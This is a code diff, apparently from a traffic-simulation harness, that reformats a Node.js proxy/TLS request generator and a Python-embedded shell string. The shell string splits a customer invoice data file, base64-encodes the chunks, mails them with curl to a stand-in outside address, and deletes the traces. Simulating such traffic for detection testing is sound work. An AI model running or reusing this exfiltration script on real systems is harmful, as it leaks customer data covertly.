@@ -99,7 +99,7 @@ let left = Number(process.argv[3]);
   ask.on('error', error => { console.error(error.message); process.exit(1); });
   ask.on('connect', (answer, socket) => {
     const web = tls.connect({socket, servername: process.argv[2]}, () =>
-      web.write('GET /assets/' + Math.random().toString(36).slice(2) + '.js HTTP/1.1\\r\\nHost: ' + process.argv[2] + '\\r\\n\\r\\n'));
+      web.write(`GET /assets/${Math.random().toString(36).slice(2)}.js HTTP/1.1\\r\\nHost: ${process.argv[2]}\\r\\n\\r\\n`));
     web.on('error', error => { console.error(error.message); process.exit(1); });
     web.on('data', () => web.end());
   });
@@ -364,7 +364,8 @@ def smtp(kept: list[int]) -> Callable[[socket.socket], None]:
 MAILS = """
 cd /tmp && split -b 1200k /srv/invoices/customers.parquet .m-
 for f in .m-*; do
-  { printf 'From: a@invoices.example\\nTo: b@free-mailer.example\\nSubject: report\\nContent-Transfer-Encoding: base64\\n\\n'; base64 $f; } > .mail
+  printf 'From: a@invoices.example\\nTo: b@free-mailer.example\\nSubject: report\\n' > .mail
+  printf 'Content-Transfer-Encoding: base64\\n\\n' >> .mail; base64 $f >> .mail
   curl -sS --crlf smtp://mx.free-mailer.example:587 --mail-from a@invoices.example --mail-rcpt b@free-mailer.example -T .mail
   rm $f .mail; sleep 0.8
 done
